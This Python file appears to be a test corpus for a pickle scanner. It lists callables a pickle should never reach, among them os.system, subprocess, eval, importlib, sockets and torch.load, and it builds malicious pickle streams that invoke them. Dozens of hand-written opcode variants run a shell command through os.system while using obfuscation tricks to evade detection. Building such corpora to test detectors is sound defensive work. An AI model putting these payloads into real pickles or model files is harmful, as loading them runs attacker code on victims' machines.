"""Functions that a pickle has no business calling: one file each, in every way of naming and calling."""

from __future__ import annotations

from collections.abc import Iterator

from attacks.streams import COMMAND, PYTHON, SENTINEL, Attack, Code, call, literal, name, pickled, text

COMMANDS = [
    ("os", "system"),
    ("posix", "system"),
    ("nt", "system"),
    ("os", "popen"),
    ("os", "execvp"),
    ("os", "spawnlp"),
    ("os", "posix_spawn"),
    ("os", "startfile"),
    ("os", "execl"),
    ("os", "fork"),
    ("posix", "execv"),
    ("os", "putenv"),
    ("os", "remove"),
    ("os", "rename"),
    ("os", "chmod"),
    ("os", "kill"),
    ("os", "_exit"),
    ("os", "abort"),
    ("os", "makedirs"),
    ("os", "listdir"),
    ("os", "symlink"),
    ("os", "open"),
    ("os", "dup2"),
    ("os", "chdir"),
    ("subprocess", "Popen"),
    ("subprocess", "run"),
    ("subprocess", "call"),
    ("subprocess", "check_output"),
    ("subprocess", "check_call"),
    ("subprocess", "getoutput"),
    ("subprocess", "getstatusoutput"),
    ("commands", "getoutput"),
    ("popen2", "popen2"),
    ("pty", "spawn"),
    ("_posixsubprocess", "fork_exec"),
    ("asyncio.subprocess", "create_subprocess_shell"),
    ("asyncio", "create_subprocess_exec"),
    ("asyncio", "run"),
    ("webbrowser", "open"),
    ("antigravity", "geohash"),
    ("pydoc", "pipepager"),
    ("pydoc", "tempfilepager"),
    ("pydoc", "ttypager"),
    ("pydoc", "locate"),
    ("platform", "popen"),
    ("platform", "_syscmd_ver"),
    ("idlelib.pyshell", "ModifiedInterpreter"),
    ("idlelib.run", "Executive"),
    ("idlelib.autocomplete", "AutoComplete"),
    ("idlelib.calltip", "Calltip"),
    ("idlelib.debugobj", "ObjectTreeItem"),
    ("ensurepip", "_run_pip"),
    ("pip", "main"),
    ("pip._internal", "main"),
    ("pip._internal.cli.main", "main"),
    ("venv", "create"),
    ("setuptools", "setup"),
    ("distutils.spawn", "spawn"),
    ("distutils.file_util", "write_file"),
    ("distutils.core", "run_setup"),
    ("test.support.script_helper", "assert_python_ok"),
    ("test.support", "run_code"),
    ("crypt", "crypt"),
    ("sysconfig", "parse_config_h"),
    ("uuid", "_get_command_stdout"),
    ("uuid", "_popen"),
    ("numpy.distutils.exec_command", "exec_command"),
    ("sh", "bash"),
    ("pexpect", "run"),
]
CODE = [
    ("builtins", "eval"),
    ("builtins", "exec"),
    ("builtins", "compile"),
    ("__builtin__", "eval"),
    ("__builtin__", "execfile"),
    ("__builtin__", "apply"),
    ("builtins", "breakpoint"),
    ("builtins", "input"),
    ("code", "InteractiveInterpreter"),
    ("code", "interact"),
    ("codeop", "compile_command"),
    ("runpy", "run_path"),
    ("runpy", "_run_code"),
    ("runpy", "run_module"),
    ("timeit", "timeit"),
    ("timeit", "main"),
    ("cProfile", "run"),
    ("cProfile", "runctx"),
    ("profile", "run"),
    ("profile", "Profile.run"),
    ("pdb", "run"),
    ("pdb", "set_trace"),
    ("bdb", "Bdb.run"),
    ("bdb", "Bdb"),
    ("trace", "Trace"),
    ("trace", "Trace.run"),
    ("doctest", "debug_script"),
    ("doctest", "testfile"),
    ("lib2to3.pgen2.grammar", "Grammar.loads"),
    ("lib2to3.pgen2.pgen", "ParserGenerator"),
    ("IPython", "embed"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
    ("torch._dynamo.guards", "GuardBuilder.get"),
    ("torch.utils.bottleneck.__main__", "run_cprofile"),
    ("torch.utils.bottleneck.__main__", "run_autograd_prof"),
    ("torch.utils._config_module", "ConfigModule.load_config"),
    ("torch.utils.collect_env", "run"),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
    ("torch.jit", "_pickle"),
    ("torch.jit._script", "RecursiveScriptModule"),
    ("torch.fx.graph_module", "_forward_from_src"),
    ("torch.fx.graph_module", "_exec_with_source"),
    ("torch._inductor.codecache", "compile_file"),
    ("torch.distributed.rpc.api", "_invoke_rpc"),
    ("torch.testing._internal.common_utils", "run_tests"),
    ("numpy.testing._private.utils", "runstring"),
    ("numpy.f2py.crackfortran", "getlincoef"),
    ("numpy.f2py.crackfortran", "_eval_length"),
    ("numpy.f2py.crackfortran", "param_eval"),
    ("numpy.f2py.crackfortran", "myeval"),
    ("numpy.testing", "rundocs"),
    ("pandas", "eval"),
    ("pandas.core.computation.eval", "eval"),
    ("pandas.core.frame", "DataFrame.eval"),
    ("sympy", "sympify"),
    ("sympy.parsing.sympy_parser", "parse_expr"),
    ("jinja2", "Template"),
    ("mako.template", "Template"),
    ("numba", "jit"),
    ("ast", "literal_eval"),
    ("inspect", "getattr_static"),
    ("warnings", "_getaction"),
    ("site", "execsitecustomize"),
    ("site", "addpackage"),
    ("rlcompleter", "Completer.attr_matches"),
]
IMPORTS = [
    ("importlib", "import_module"),
    ("importlib", "__import__"),
    ("importlib", "reload"),
    ("importlib.util", "spec_from_file_location"),
    ("importlib.machinery", "SourceFileLoader"),
    ("_frozen_importlib_external", "SourceFileLoader"),
    ("_frozen_importlib", "_load"),
    ("imp", "load_source"),
    ("imp", "load_dynamic"),
    ("pkgutil", "resolve_name"),
    ("pkgutil", "walk_packages"),
    ("zipimport", "zipimporter"),
    ("builtins", "__import__"),
    ("__builtin__", "reload"),
    ("pkg_resources", "run_script"),
    ("logging.config", "listen"),
    ("logging.config", "dictConfig"),
    ("logging.config", "_resolve"),
    ("torch.package", "PackageImporter"),
    ("torch.utils.cpp_extension", "load"),
    ("torch.utils.cpp_extension", "load_inline"),
    ("torch.hub", "load"),
    ("torch.hub", "load_state_dict_from_url"),
    ("torch.ops", "load_library"),
    ("torch.classes", "load_library"),
    ("django.utils.module_loading", "import_string"),
    ("werkzeug.utils", "import_string"),
    ("encodings", "search_function"),
]
REACHES = [
    ("builtins", "getattr"),
    ("builtins", "setattr"),
    ("builtins", "delattr"),
    ("builtins", "globals"),
    ("builtins", "locals"),
    ("builtins", "vars"),
    ("builtins", "map"),
    ("builtins", "filter"),
    ("builtins", "dir"),
    ("operator", "attrgetter"),
    ("operator", "methodcaller"),
    ("operator", "itemgetter"),
    ("operator", "call"),
    ("_operator", "attrgetter"),
    ("functools", "reduce"),
    ("functools", "partial"),
    ("_functools", "partial"),
    ("functools", "singledispatch"),
    ("functools", "cached_property"),
    ("itertools", "starmap"),
    ("itertools", "accumulate"),
    ("gc", "get_objects"),
    ("gc", "get_referrers"),
    ("weakref", "finalize"),
    ("types", "FunctionType"),
    ("types", "CodeType"),
    ("types", "MethodType"),
    ("contextlib", "ExitStack"),
    ("contextlib", "contextmanager"),
    ("inspect", "getmembers"),
    ("sys", "modules"),
    ("sys", "setprofile"),
    ("sys", "path"),
    ("sys", "_getframe"),
    ("sys", "exit"),
    ("builtins", "exit"),
    ("builtins", "help"),
    ("joblib._store_backends", "StoreBackendBase"),
    ("joblib.externals.loky", "get_reusable_executor"),
    ("dask.utils", "apply"),
]
FILES = [
    ("builtins", "open"),
    ("io", "open"),
    ("io", "FileIO"),
    ("_io", "open"),
    ("_io", "FileIO"),
    ("_pyio", "open"),
    ("codecs", "open"),
    ("shutil", "rmtree"),
    ("shutil", "copyfile"),
    ("shutil", "move"),
    ("shutil", "unpack_archive"),
    ("tempfile", "mkstemp"),
    ("tempfile", "NamedTemporaryFile"),
    ("glob", "glob"),
    ("linecache", "getlines"),
    ("fileinput", "FileInput"),
    ("tokenize", "open"),
    ("zipfile", "ZipFile"),
    ("tarfile", "open"),
    ("gzip", "open"),
    ("sqlite3", "connect"),
    ("dbm", "open"),
    ("mmap", "mmap"),
    ("logging", "FileHandler"),
    ("csv", "reader"),
    ("pathlib", "Path.write_text"),
    ("pathlib", "Path.unlink"),
    ("pathlib", "Path.read_bytes"),
    ("numpy", "fromfile"),
    ("numpy", "memmap"),
    ("numpy", "savetxt"),
    ("numpy", "loadtxt"),
    ("numpy", "genfromtxt"),
    ("numpy.lib.npyio", "DataSource"),
    ("numpy", "ndarray.tofile"),
    ("pandas.io.common", "get_handle"),
    ("pandas", "read_csv"),
    ("scipy.io", "loadmat"),
    ("fsspec", "open"),
    ("configparser", "ConfigParser"),
    ("netrc", "netrc"),
    ("mailbox", "mbox"),
    ("h5py", "File"),
]
NETWORK = [
    ("socket", "socket"),
    ("socket", "create_connection"),
    ("_socket", "socket"),
    ("ssl", "get_server_certificate"),
    ("urllib.request", "urlopen"),
    ("urllib.request", "urlretrieve"),
    ("urllib2", "urlopen"),
    ("http.client", "HTTPSConnection"),
    ("requests", "get"),
    ("requests.api", "request"),
    ("httpx", "get"),
    ("aiohttp.client", "ClientSession"),
    ("ftplib", "FTP"),
    ("smtplib", "SMTP"),
    ("telnetlib", "Telnet"),
    ("xmlrpc.client", "ServerProxy"),
    ("socketserver", "TCPServer"),
    ("http.server", "HTTPServer"),
    ("imaplib", "IMAP4_stream"),
    ("poplib", "POP3"),
    ("torch.hub", "download_url_to_file"),
    ("huggingface_hub", "snapshot_download"),
    ("urllib3", "PoolManager"),
    ("paramiko", "SSHClient"),
    ("boto3", "client"),
]
READERS = [
    ("pickle", "loads"),
    ("pickle", "load"),
    ("_pickle", "loads"),
    ("_pickle", "Unpickler"),
    ("cPickle", "loads"),
    ("pickle", "Unpickler"),
    ("marshal", "loads"),
    ("shelve", "open"),
    ("dill", "loads"),
    ("dill._dill", "loads"),
    ("cloudpickle", "loads"),
    ("cloudpickle.cloudpickle", "loads"),
    ("joblib", "load"),
    ("joblib.numpy_pickle", "load"),
    ("numpy", "load"),
    ("numpy.lib.npyio", "load"),
    ("numpy.lib.format", "read_array"),
    ("pandas", "read_pickle"),
    ("pandas.io.pickle", "read_pickle"),
    ("torch", "load"),
    ("torch.serialization", "load"),
    ("torch.jit", "load"),
    ("torch", "_load_global_deps"),
    ("jsonpickle", "decode"),
    ("yaml", "load"),
    ("yaml", "unsafe_load"),
    ("keras.models", "load_model"),
    ("tensorflow", "load_op_library"),
    ("srsly", "pickle_loads"),
    ("multiprocessing.reduction", "_rebuild_partial"),
    ("pickletools", "dis"),
    ("ruamel.yaml", "load"),
]
NATIVE = [
    ("ctypes", "CDLL"),
    ("ctypes", "cdll.LoadLibrary"),
    ("_ctypes", "dlopen"),
    ("ctypes", "string_at"),
    ("ctypes", "memmove"),
    ("numpy.ctypeslib", "load_library"),
    ("cffi", "FFI"),
    ("multiprocessing", "Process"),
    ("threading", "Thread"),
    ("_thread", "start_new_thread"),
    ("signal", "signal"),
    ("resource", "setrlimit"),
    ("atexit", "register"),
    ("concurrent.futures", "ProcessPoolExecutor"),
    ("multiprocessing.util", "spawnv_passfds"),
    ("torch.multiprocessing", "spawn"),
    ("faulthandler", "_sigsegv"),
    ("sys", "settrace"),
    ("_testcapi", "raise_signal"),
    ("readline", "read_init_file"),
]


def functions() -> Iterator[Attack]:
    """Every name above, each called once; the protocol and the opcodes rotate."""
    groups = {
        "command": COMMANDS,
        "code": CODE,
        "import": IMPORTS,
        "reach": REACHES,
        "file": FILES,
        "network": NETWORK,
        "reader": READERS,
        "native": NATIVE,
    }
    arguments = {"command": COMMAND, "code": PYTHON, "file": SENTINEL, "network": "http://127.0.0.1:9/"}
    milder = {
        ("functools", "partial"),
        ("_functools", "partial"),
        ("operator", "attrgetter"),
        ("operator", "methodcaller"),
        ("operator", "itemgetter"),
        ("types", "FunctionType"),
        ("types", "CodeType"),
        ("types", "MethodType"),
        ("uuid", "_get_command_stdout"),
        ("uuid", "_popen"),
        ("torch", "_load_global_deps"),
        ("dask.utils", "apply"),
        ("codecs", "open"),
        ("torch.jit", "_pickle"),
        ("pandas", "read_csv"),
    }
    for group, names in groups.items():
        for index, (module, attribute) in enumerate(names):
            argument = arguments.get(group, PYTHON)
            style = index % 5
            protocol = 4 if "." in attribute else (0, 2, 3, 4, 5)[style]
            callee = name(module, attribute, protocol)
            data = pickled(call(callee, argument), protocol)
            if style == 1:
                data = b"\x80\x02" + callee.opcodes + literal((argument,)) + b"\x81."
            elif style == 3 and "." not in attribute:
                data = b"(" + literal(argument) + b"i" + f"{module}\n{attribute}\n".encode() + b"."
            verdict = "unknown" if (module, attribute) in milder else "dangerous"
            yield Attack(
                name=f"{group}-{module}-{attribute}", data=data, verdict=verdict, about=f"calls {module}.{attribute}"
            )


def ways() -> Iterator[Attack]:
    """One function, every way of naming and calling it."""
    command = text(COMMAND)
    system = b"cos\nsystem\n"
    stacked = text("os") + text("system") + b"\x93"
    streams = {
        "reduce-p0": b"cos\nsystem\n(S'" + COMMAND.encode() + b"'\ntR.",
        "reduce-p1": b"cos\nsystem\n(X" + len(COMMAND).to_bytes(4, "little") + COMMAND.encode() + b"tR.",
        "reduce-p2": b"\x80\x02" + system + command + b"\x85R.",
        "reduce-p3": b"\x80\x03" + system + command + b"\x85R.",
        "reduce-p4": b"\x80\x04" + stacked + command + b"\x85R.",
        "reduce-p5": b"\x80\x05" + stacked + command + b"\x85R.",
        "framed": b"\x80\x04\x95" + (len(stacked + command) + 3).to_bytes(8, "little") + stacked + command + b"\x85R.",
        "inst": b"(" + command + b"ios\nsystem\n.",
        "obj": b"(" + system + command + b"o.",
        "newobj": b"\x80\x02" + system + command + b"\x85\x81.",
        "newobj-ex": b"\x80\x04" + stacked + command + b"\x85}\x92.",
        "never-called": b"\x80\x02" + system + b"0N.",
        "never-called-stacked": b"\x80\x04" + stacked + b"0N.",
        "discarded": b"\x80\x02" + system + command + b"\x85R0N.",
        "discarded-obj": b"(" + system + command + b"o0N.",
        "discarded-by-mark": b"(" + system + command + b"\x85R1N.",
        "as-key": b"}" + system + command + b"\x85RNs.",
        "in-list": b"](" + system + command + b"\x85Re.",
        "in-set": b"\x80\x04\x8f(" + stacked + command + b"\x85R\x90.",
        "in-frozenset": b"\x80\x04(" + stacked + command + b"\x85R\x91.",
        "as-state": b"ccollections\nOrderedDict\n)R" + system + command + b"\x85Rb.",
        "as-kwargs": b"\x80\x04"
        + text("collections")
        + text("OrderedDict")
        + b"\x93)}"
        + text("a")
        + stacked
        + command
        + b"\x85Rs\x92.",
        "as-persistent-id": system + command + b"\x85RQ.",
        "as-callee": system + command + b"\x85R)R.",
        "memoized": b"\x80\x04" + text("os") + b"\x94" + text("system") + b"\x94h\x00h\x01\x93" + command + b"\x85R.",
        "memo-overwritten": b"\x80\x04"
        + text("math")
        + b"q\x00"
        + text("os")
        + b"q\x00"
        + text("system")
        + b"q\x01000h\x00h\x01\x93"
        + command
        + b"\x85R.",
        "memo-text-form": b"\x80\x04"
        + text("os")
        + b"p7\n"
        + text("system")
        + b"p8\n00g7\ng8\n\x93"
        + command
        + b"\x85R.",
        "memo-long-form": b"\x80\x04"
        + text("os")
        + b"r\x00\x10\x00\x00"
        + text("system")
        + b"r\x01\x10\x00\x00"
        + b"00j\x00\x10\x00\x00j\x01\x10\x00\x00\x93"
        + command
        + b"\x85R.",
        "name-by-unicode": b"\x80\x04Vos\nVsystem\n\x93" + command + b"\x85R.",
        "name-by-escape": b"\x80\x04V\\u006fs\nVs\\u0079stem\n\x93" + command + b"\x85R.",
        "name-by-string": b"\x80\x04S'o\\x73'\nS'\\163ystem'\n\x93" + command + b"\x85R.",
        "name-by-binstring": b"\x80\x04U\x02osT\x06\x00\x00\x00system\x93" + command + b"\x85R.",
        "name-by-binunicode8": b"\x80\x04\x8d\x02"
        + bytes(7)
        + b"os\x8d\x06"
        + bytes(7)
        + b"system\x93"
        + command
        + b"\x85R.",
        "name-behind-dup": b"\x80\x04" + text("os") + b"2" + b"0" + text("system") + b"\x93" + command + b"\x85R.",
        "name-out-of-tuple-memo": b"\x80\x04"
        + text("os")
        + b"\x94"
        + text("system")
        + b"\x94\x86\x940h\x00h\x01\x93"
        + command
        + b"\x85R.",
        "pieces-between": b"\x80\x04" + text("os") + b"N0]0" + text("system") + b"\x93(" + command + b"tR.",
        "dup-callee": b"\x80\x02" + system + b"2" + command + b"\x85R0.",
        "twice": b"\x80\x02" + system + command + b"\x85R0" + system + command + b"\x85R.",
    }
    for label, data in streams.items():
        yield Attack(name=f"way-{label}", data=data, about="one function, another way to name or call it")


def by_code() -> Code:
    """A function made from marshalled code, as cloudpickle would make one."""
    return call(name("cloudpickle.cloudpickle", "_make_function"), call(name("types", "CodeType"), 0), {}, "f")
